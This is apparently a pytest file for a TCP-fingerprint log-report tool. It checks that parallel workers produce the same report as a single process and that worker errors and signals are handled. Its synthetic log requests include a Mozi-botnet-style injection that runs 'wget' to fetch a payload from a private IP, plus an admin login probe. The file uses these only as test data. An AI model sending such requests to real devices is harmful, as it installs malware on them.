"""`report` in worker processes gives the report of reading every line in one process.

A large regular file is cut into ranges of whole lines (``logreader.line_ranges``);
forked workers parse and aggregate them and the parent merges the partial
aggregates in order.  These tests use tiny blocks so that a small log becomes
many ranges, and compare the whole JSON report, malformed line numbers included,
with the single-process one.
"""

from __future__ import annotations

import gzip
import os
import random
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from tcpfp_cli import forks
from tcpfp_cli import report as reporting
from tcpfp_cli.campaigns import CampaignMatcher, load_campaigns
from tcpfp_cli.logformat import compile_format
from tcpfp_cli.logreader import line_ranges

OS_FORMAT = ('%h "%r" %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_TCP_WSIZE}g %{FINGERPRINT_TCP_WSCALE}g '
             '%{FINGERPRINT_TCP_MSS}g "%{FINGERPRINT_TCP_OPTIONS}g" %{FINGERPRINT_HOPS}g '
             '"%{FINGERPRINT_OS}g" "%{FINGERPRINT_OS_MATCH}g" %{FINGERPRINT_TCP_RTT}g')
P0F_FORMAT = ('%h "%r" %{FINGERPRINT_IP_TTL}g %{FINGERPRINT_TCP_WSIZE}g %{FINGERPRINT_TCP_WSCALE}g '
              '%{FINGERPRINT_TCP_MSS}g "%{FINGERPRINT_TCP_OPTIONS}g" "%{FINGERPRINT_P0F}g" %{FINGERPRINT_TCP_RTT}g')

STACKS = [  # ttl, window, scale, mss, options, os, match, p0f
    ("61", "64240", "7", "1460", "2,4,8,1,3", "s:unix:Linux:3.11 and newer", "exact",
     "4:61+3:0:1460:mss*44,7:mss,sok,ts,nop,ws:df:0"),
    ("117", "64240", "8", "1460", "2,1,3,1,1,4", "s:win:Windows:7 or 8", "exact",
     "4:117+11:0:1460:mss*44,8:mss,nop,ws,nop,nop,sok:df,id+:0"),
    ("50", "5808", "2", "1452", "2,4,8,1,3", "-", "-", "4:50+14:0:1452:5808,2:mss,sok,ts,nop,ws:df:0"),
    ("-", "-", "-", "-", "-", "-", "-", "-"),  # no SYN
    ("240", "29200", "5", "1400", "2,4,8,1,3", "s:unix:Linux:2.6.x", "fuzzy",
     "4:240+15:0:1400:mss*20,5:mss,sok,ts,nop,ws:df:0"),
]
REQUESTS = [
    "GET / HTTP/1.1", "GET /index.html HTTP/1.1", "GET /favicon.ico HTTP/1.1",
    "GET /board.cgi?cmd=cd+/tmp;wget+http://{ip}:{port}/Mozi.m HTTP/1.0",
    "POST /boaform/admin/formLogin?username=admin&psd={n} HTTP/1.0",
    'GET /q?x=\\"{n}\\" HTTP/1.1',  # escaped quotes
    "GET /a\\\\b{n} HTTP/1.1",  # an escaped backslash
    "\\x16\\x03\\x01\\x02",  # TLS junk
    "-",
]


def _line(rng: random.Random, fmt: str) -> str:
    ttl, window, scale, mss, options, os_label, match, p0f = rng.choice(STACKS)
    request = rng.choice(REQUESTS).format(ip=f"10.{rng.randrange(256)}.{rng.randrange(256)}.7",
                                          port=rng.randrange(1024, 65536), n=rng.randrange(10_000))
    host = f"192.0.2.{rng.randrange(40)}"
    rtt = str(rng.randrange(100, 900_000)) if ttl != "-" else "-"
    head = f'{host} "{request}" {ttl} {window} {scale} {mss} "{options}"'
    if fmt == OS_FORMAT:
        hops = "-" if ttl == "-" else str(64 - int(ttl) if int(ttl) <= 64 else 128 - int(ttl) if int(ttl) <= 128 else 255 - int(ttl))
        return f'{head} {hops} "{os_label}" "{match}" {rtt}'
    return f'{head} "{p0f}" {rtt}'


def _write_log(path: Path, fmt: str, lines: int, seed: int) -> list[int]:
    """A log with blank and malformed lines spread over it; the numbers of the malformed ones."""
    rng = random.Random(seed)
    out = []
    bad = []
    for number in range(1, lines + 1):
        roll = rng.random()
        if roll < 0.004:
            out.append("")
            continue
        line = _line(rng, fmt)
        if roll < 0.012:
            line = line[: rng.randrange(5, len(line) - 3)] if rng.random() < 0.5 else line + " extra"
            bad.append(number)
        out.append(line)
    path.write_text("\n".join(out))  # no newline after the last line
    fmt_compiled = compile_format(fmt)
    checked = []
    for number, line in enumerate(out, 1):
        try:
            fmt_compiled.parse(line)
        except Exception:
            if line.strip():
                checked.append(number)
    assert checked == bad  # the damage is what the parser rejects
    return bad


def _report(paths, fmt, workers, chunk_bytes=None):
    options = reporting.ReportOptions(campaigns=CampaignMatcher(load_campaigns()), workers=workers,
                                      chunk_bytes=chunk_bytes)
    return reporting.build_report([str(p) for p in paths], fmt, options).to_json()


@pytest.fixture
def ranges_used(monkeypatch):
    calls = []
    original = reporting._aggregate_in_processes

    def spy(reader, agg, fd, label, size, workers):
        calls.append(label)
        return original(reader, agg, fd, label, size, workers)

    monkeypatch.setattr(reporting, "_aggregate_in_processes", spy)
    return calls


@pytest.mark.parametrize("fmt", [OS_FORMAT, P0F_FORMAT], ids=["os", "p0f"])
def test_processes_give_the_single_process_report(tmp_path, fmt, ranges_used):
    log = tmp_path / "access.log"
    bad = _write_log(log, fmt, 3000, seed=7)
    single = _report([log], fmt, workers=1, chunk_bytes=4096)
    assert ranges_used == []
    many = _report([log], fmt, workers=2, chunk_bytes=4096)
    assert ranges_used == [str(log)]
    assert many == single
    assert many["summary"]["malformed"] == len(bad)
    assert [m["line"] for m in many["malformed_lines"]] == bad[:10]
    assert many["summary"]["lines"] == 3000


def test_line_numbers_per_file_across_ranges(tmp_path, ranges_used):
    first, second = tmp_path / "a.log", tmp_path / "b.log"
    bad_a = _write_log(first, OS_FORMAT, 400, seed=1)
    bad_b = _write_log(second, OS_FORMAT, 2500, seed=2)
    single = _report([first, second], OS_FORMAT, workers=1, chunk_bytes=2048)
    many = _report([first, second], OS_FORMAT, workers=3, chunk_bytes=2048)
    assert ranges_used == [str(first), str(second)]
    assert many == single
    expected = [(str(first), n) for n in bad_a] + [(str(second), n) for n in bad_b]
    assert [(m["file"], m["line"]) for m in many["malformed_lines"]] == expected[:10]


def test_gzip_and_small_files_are_read_here(tmp_path, ranges_used):
    log = tmp_path / "access.log"
    _write_log(log, OS_FORMAT, 1500, seed=3)
    packed = tmp_path / "access.log.gz"
    packed.write_bytes(gzip.compress(log.read_bytes()))
    single = _report([log], OS_FORMAT, workers=1, chunk_bytes=4096)
    assert _report([packed], OS_FORMAT, workers=2, chunk_bytes=4096)["fingerprints"] == single["fingerprints"]
    assert _report([log], OS_FORMAT, workers=2) == single  # one block: no processes
    assert ranges_used == []


@pytest.mark.parametrize("parts", [1, 2, 3, 7, 50, 1000])
def test_line_ranges_cover_the_file_at_line_starts(tmp_path, parts):
    rng = random.Random(parts)
    lines = [b"x" * rng.choice([0, 1, 5, 80, 70_000]) for _ in range(60)]
    data = b"\n".join(lines) + b"\n"
    path = tmp_path / "lines"
    path.write_bytes(data)
    with open(path, "rb") as f:
        ranges = line_ranges(f.fileno(), len(data), parts)
    assert ranges[0][0] == 0 and ranges[-1][1] == len(data)
    assert all(a < b for a, b in ranges)
    assert all(prev[1] == nxt[0] for prev, nxt in zip(ranges, ranges[1:]))
    assert all(data[a - 1:a] == b"\n" for a, _ in ranges[1:])
    assert len(ranges) <= parts


def _children(pid: int) -> list[int]:
    try:
        with open(f"/proc/{pid}/task/{pid}/children") as f:
            return [int(c) for c in f.read().split()]
    except OSError:
        return []


def test_an_error_in_a_worker_is_the_commands_error(tmp_path, monkeypatch):
    """A worker that cannot read its range: its TcpfpError reaches the caller, once."""
    log = tmp_path / "access.log"
    _write_log(log, OS_FORMAT, 2000, seed=4)

    def unreadable(reader, agg, task):
        raise reporting.UnreadableInput(f"{task[1]}: cannot read: test")

    monkeypatch.setattr(reporting, "_aggregate_range", unreadable)
    with pytest.raises(reporting.UnreadableInput, match="cannot read: test"):
        _report([log], OS_FORMAT, workers=2, chunk_bytes=4096)
    assert _children(os.getpid()) == []  # reaped


def test_a_worker_that_dies_gives_an_error_not_a_hang(tmp_path, monkeypatch):
    log = tmp_path / "access.log"
    _write_log(log, OS_FORMAT, 2000, seed=5)
    monkeypatch.setattr(reporting, "_aggregate_range", lambda reader, agg, task: os.kill(os.getpid(), signal.SIGKILL))
    started = time.monotonic()
    with pytest.raises(forks.WorkerError, match="access.log: a worker process .* ended without its result"):
        _report([log], OS_FORMAT, workers=2, chunk_bytes=4096)
    assert time.monotonic() - started < 10
    assert _children(os.getpid()) == []


@pytest.mark.parametrize("to_group", [True, False], ids=["terminal", "kill"])
def test_ctrl_c_stops_the_command_and_its_workers(tmp_path, to_group):
    """SIGINT while workers read a large file, to the whole process group (as a terminal
    sends it) or to the command alone (kill -INT): the command exits soon, without a
    traceback, and no worker is left."""
    log = tmp_path / "big.log"
    line = b'192.0.2.9 - - [25/Nov/2026:10:00:00 +0000] "GET /index.html?id=%d HTTP/1.1" 200 2\n'
    with open(log, "wb") as out:  # ~90 MB: well above two 8 MB blocks, a second or more to read
        for k in range(1100):
            out.write(b"".join(line % (k * 1000 + j) for j in range(1000)))
    command = subprocess.Popen([sys.executable, "-m", "tcpfp_cli", "report", "--format", "common", str(log)],
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, start_new_session=True)
    try:
        deadline = time.monotonic() + 20
        workers: list[int] = []
        while time.monotonic() < deadline and command.poll() is None and len(workers) < 2:
            workers = _children(command.pid)
            time.sleep(0.01)
        assert len(workers) == 2, "the workers did not start"
        if to_group:
            os.killpg(command.pid, signal.SIGINT)
        else:
            os.kill(command.pid, signal.SIGINT)
        _, err = command.communicate(timeout=15)
    finally:
        if command.poll() is None:
            os.killpg(command.pid, signal.SIGKILL)
            command.wait()
    assert command.returncode != 0
    assert b"Traceback" not in err
    for pid in workers:
        assert not os.path.exists(f"/proc/{pid}") or open(f"/proc/{pid}/stat").read().split()[2] == "Z"


def test_a_bug_in_a_worker_is_named_in_one_error(tmp_path, monkeypatch):
    log = tmp_path / "access.log"
    _write_log(log, OS_FORMAT, 2000, seed=6)

    def broken(reader, agg, task):
        raise KeyError("surprise")

    monkeypatch.setattr(reporting, "_aggregate_range", broken)
    with pytest.raises(forks.WorkerError, match="access.log: a worker process failed: KeyError: 'surprise'"):
        _report([log], OS_FORMAT, workers=2, chunk_bytes=4096)
    assert _children(os.getpid()) == []


def test_workers_read_the_file_that_was_opened(tmp_path, monkeypatch):
    """The log is replaced under its name (rotation) right after it is opened: workers
    read the opened file, as one process does, not the new one."""
    log = tmp_path / "access.log"
    _write_log(log, OS_FORMAT, 3000, seed=8)
    single = _report([log], OS_FORMAT, workers=1, chunk_bytes=4096)
    original = reporting._aggregate_in_processes

    def rotate_then_read(reader, agg, fd, label, size, workers):
        os.rename(log, tmp_path / "access.log.1")
        _write_log(log, OS_FORMAT, 200, seed=9)
        return original(reader, agg, fd, label, size, workers)

    monkeypatch.setattr(reporting, "_aggregate_in_processes", rotate_then_read)
    assert _report([log], OS_FORMAT, workers=2, chunk_bytes=4096) == single


def test_a_log_that_grows_is_read_as_it_was_when_opened(tmp_path, monkeypatch):
    log = tmp_path / "access.log"
    _write_log(log, OS_FORMAT, 3000, seed=10)
    with open(log, "a") as f:
        f.write("\n")  # whole lines only
    single = _report([log], OS_FORMAT, workers=1, chunk_bytes=4096)
    original = reporting._aggregate_in_processes

    def grow_then_read(reader, agg, fd, label, size, workers):
        with open(log, "a") as f:
            f.write('192.0.2.1 "GET /half-writ')  # a server in the middle of a line
        return original(reader, agg, fd, label, size, workers)

    monkeypatch.setattr(reporting, "_aggregate_in_processes", grow_then_read)
    grown = _report([log], OS_FORMAT, workers=2, chunk_bytes=4096)
    assert grown == single
    assert grown["summary"]["malformed"] == single["summary"]["malformed"]


def test_workers_die_with_a_killed_command(tmp_path):
    """SIGKILL (or SIGTERM) to the command: the kernel ends its workers too."""
    log = tmp_path / "big.log"
    line = b'192.0.2.9 - - [25/Nov/2026:10:00:00 +0000] "GET /index.html?id=%d HTTP/1.1" 200 2\n'
    with open(log, "wb") as out:
        for k in range(1100):
            out.write(b"".join(line % (k * 1000 + j) for j in range(1000)))
    command = subprocess.Popen([sys.executable, "-m", "tcpfp_cli", "report", "--format", "common", str(log)],
                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
    workers: list[int] = []
    try:
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline and command.poll() is None and len(workers) < 2:
            workers = _children(command.pid)
            time.sleep(0.01)
        assert len(workers) == 2, "the workers did not start"
        os.kill(command.pid, signal.SIGKILL)
        command.wait(10)
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and any(_alive(pid) for pid in workers):
            time.sleep(0.02)
        assert not any(_alive(pid) for pid in workers)
    finally:
        for pid in workers:
            if _alive(pid):
                os.kill(pid, signal.SIGKILL)
        if command.poll() is None:
            command.kill()
            command.wait()


def _alive(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat") as f:
            return f.read().rsplit(")", 1)[1].split()[0] != "Z"
    except OSError:
        return False


def test_a_worker_error_of_the_family_arrives_with_its_attributes(tmp_path, monkeypatch):
    """Errors whose constructors take data, not a message (Truncated), cross the pipe
    whole: the same class, text and attributes in the parent."""
    from tcpfp_cli.errors import Truncated

    log = tmp_path / "access.log"
    _write_log(log, OS_FORMAT, 2000, seed=4)
    error = Truncated("TCP header", 20, 20, 3)

    def truncated(reader, agg, task):
        raise error

    monkeypatch.setattr(reporting, "_aggregate_range", truncated)
    with pytest.raises(Truncated) as raised:
        _report([log], OS_FORMAT, workers=2, chunk_bytes=4096)
    assert str(raised.value) == str(error)
    assert (raised.value.reason, raised.value.offset) == (error.reason, error.offset)
    assert _children(os.getpid()) == []
